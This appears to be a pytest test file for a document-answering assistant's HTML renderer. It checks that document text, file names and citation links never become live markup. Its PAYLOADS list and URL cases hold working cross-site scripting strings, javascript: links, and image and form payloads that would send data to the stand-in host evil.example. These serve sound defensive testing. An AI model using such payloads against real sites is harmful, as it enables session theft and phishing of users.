"""Nothing a document, a file name or a question holds becomes markup: the first wall of the chat and of the pages."""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import replace
from html.parser import HTMLParser
from typing import Any

import pytest

from assistant import Answer, Direct, Disagreement, Document, Place, Side
from ui import render
from ui.sources import missing_page, source_page

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/?q=secret'>",
    "![x](http://evil.example/p.png)",
    "[click](javascript:alert(1))",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=http://evil.example target=_self>x</a>",
    "<form action=http://evil.example><input type=password></form>",
    "<div style='position:fixed;inset:0'>log in</div>",
    "<style>body{background:url(http://evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=http://evil.example></object>",
    "<video src=http://evil.example/v.mp4 autoplay></video>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "</span></p></article><h1>owned</h1>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "$$\\href{javascript:alert(1)}{x}$$ \\(x\\) $x$",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} {% raw %}",
    "```mermaid\ngraph TD; A-->B; click A href 'http://evil.example'\n```",
    "<!-- --><script>alert(1)</script><!-- -->",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x00<scr\x00ipt>alert(1)</script>",
    "javascript:alert(1)//",
    "http://evil.example/auto-link www.evil.example me@evil.example",
    "# heading\n\n- list\n\n| a | b |\n|---|---|\n",
    "\n\n\n<b>after a blank line</b>\n\n",
    "<thinking>secret</thinking>",
    "\u202e<b>gpj.exe",
)
ALLOWED_TAGS = {
    *("html head meta title link script body nav main header article section div span p h1 h2 h3 bdi a br").split(),  # noqa: SIM905
    *("button blockquote strong mark details summary ul li").split(),  # noqa: SIM905
}


class Seen(HTMLParser):
    """The tags, attributes and text of a piece of HTML."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text = ""
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data


def harmless(markup: str, twin: str) -> Seen:
    """The markup has the same elements as that of a harmless twin, no handler, and only our own links."""
    seen = Seen(markup)
    assert seen.tags == Seen(twin).tags
    assert set(seen.tags) <= ALLOWED_TAGS
    assert not [name for name, _ in seen.attributes if name.startswith("on") or name in ("style", "srcdoc")]
    for name, value in seen.attributes:
        if name in ("href", "src", "action"):
            assert render.LINK.fullmatch(value) or re.fullmatch(r"/|/static/[a-z.]+|#[\w-]+", value), value
    return seen


@pytest.fixture
def hostile(build_document: Callable[..., Document], build_answer: Callable[..., Answer]) -> Callable[[str], Answer]:
    def build(text: str) -> Answer:
        document = replace(build_document(text, f"{text}.md", ("x", text, "y")), outlet=text, published=text)
        document = replace(document, language=text)
        differ = Disagreement(text, (Side(text, 1), Side(text, 1)))
        return replace(build_answer(document, text), disagreements=(differ,), direct=Direct(text, 1, 0, 1))

    return build


@pytest.mark.parametrize("payload", PAYLOADS)
def test_answer_and_panel(payload: str, hostile: Callable[[str], Answer]) -> None:
    for answer in (hostile(payload), replace(hostile(payload), citations=())):
        shown = replace(answer, sentences=answer.sentences if answer.citations else ())
        twin = replace(
            hostile("harmless words"), citations=(hostile("harmless words").citations if answer.citations else ())
        )
        twin = replace(twin, sentences=twin.sentences if answer.citations else ())
        for make in (render.answer_html, render.panel_html):
            markup = make(shown)
            harmless(markup, make(twin))
            assert "\n" not in markup


@pytest.mark.parametrize("payload", PAYLOADS)
def test_abstention(payload: str, hostile: Callable[[str], Answer]) -> None:
    def abstain(text: str) -> Answer:
        answer = hostile(text)
        return replace(answer, answered=False, nearest=answer.citations, citations=(), sentences=(), reason=text)

    for make in (render.answer_html, render.panel_html):
        harmless(make(abstain(payload)), make(abstain("harmless words")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_question_and_notice_keep_their_text(payload: str) -> None:
    assert set(Seen(render.question_html(payload)).tags) <= {"div", "br"}
    shown = harmless(render.notice_html(payload), render.notice_html("x")).text
    assert shown.split() == payload.replace("\x00", "").split()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_source_page(payload: str, hostile: Callable[[str], Answer]) -> None:
    page = source_page(hostile(payload).citations[0].document, f"{payload}:0-3")
    twin = source_page(hostile("harmless words").citations[0].document, "harmless:0-3")
    assert [t for t in harmless(page, twin).tags if t == "script"] == ["script"]
    assert payload not in page or not re.search(r"[<>&\"']", payload)
    harmless(missing_page(payload), missing_page("x"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_turn_of_the_chat_becomes_history_again(payload: str) -> None:
    said = render.text_of(render.question_html(payload))
    assert said.split() == payload.replace("\x00", "").split()


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "http://evil.example/source/doc1",
        "//evil.example/source/doc1",
        '/source/doc1?cite=p:1-2#p-p" onclick="x',
        "/source/../ui",
        "/source/doc1?next=http://evil.example",
        "/source/doc1\n",
    ],
)
def test_only_our_own_links_are_written(url: str, build_answer: Callable[..., Answer], document: Document) -> None:
    answer = build_answer(document)
    bad = replace(answer, citations=tuple(replace(c, url=url) for c in answer.citations))
    assert "href" not in render.answer_html(bad)
    assert "evil" not in render.panel_html(bad)


def test_a_copy_with_a_strange_id_is_no_link(build_answer: Callable[..., Answer], document: Document) -> None:
    place = Place("copy.md", 1, "x' onclick='", "p")
    answer = build_answer(document)
    panel = render.panel_html(replace(answer, citations=tuple(replace(c, also_in=(place,)) for c in answer.citations)))
    assert "onclick" not in panel


def test_reading_direction_cannot_be_turned_in_names() -> None:
    turned = "invoice\u202e\u2066gpj.exe\u2069"
    assert render.plain_name(turned) == "invoicegpj.exe"
    assert "\u202e" not in render.name(turned)


@pytest.mark.parametrize("text", ["🏳️‍🌈 🏳️‍⚧️ 🏴󠁧󠁢󠁷󠁬󠁳󠁿", "می‌خواهم", "عن اللجوء", "עִבְרִית"])
def test_flags_and_scripts_stay_whole(text: str) -> None:
    assert render.plain_name(text) == text
    assert Seen(render.clean(text)).text == text


def test_a_megabyte_is_read_back_in_a_second() -> None:
    import time

    for text in ("<" * 1_000_000, "<a" * 500_000, ">" * 1_000_000, "&" * 1_000_000):
        before = time.perf_counter()
        render.text_of(text)
        render.clean(text)
        assert time.perf_counter() - before < 1


def test_cards_of_one_paragraph_are_one(build_answer: Callable[..., Any], document: Document) -> None:
    answer = build_answer(document)
    second = replace(answer.citations[0], number=2, start=answer.citations[0].end, end=document.paragraphs[1].end)
    panel = render.panel_html(replace(answer, citations=(*answer.citations, second)))
    assert panel.count("<article") == 1
    assert 'class="card s1 s2"' in panel
    assert panel.count("<mark>") == 1  # the two spans touch


def test_a_very_long_paragraph_is_cut_around_the_words(build_document: Any, build_answer: Any) -> None:
    long = build_document(texts=("a", "x" * 50_000, "b"))
    panel = render.panel_html(build_answer(long))
    assert len(panel) < 5_000
    assert " …</blockquote>" in panel
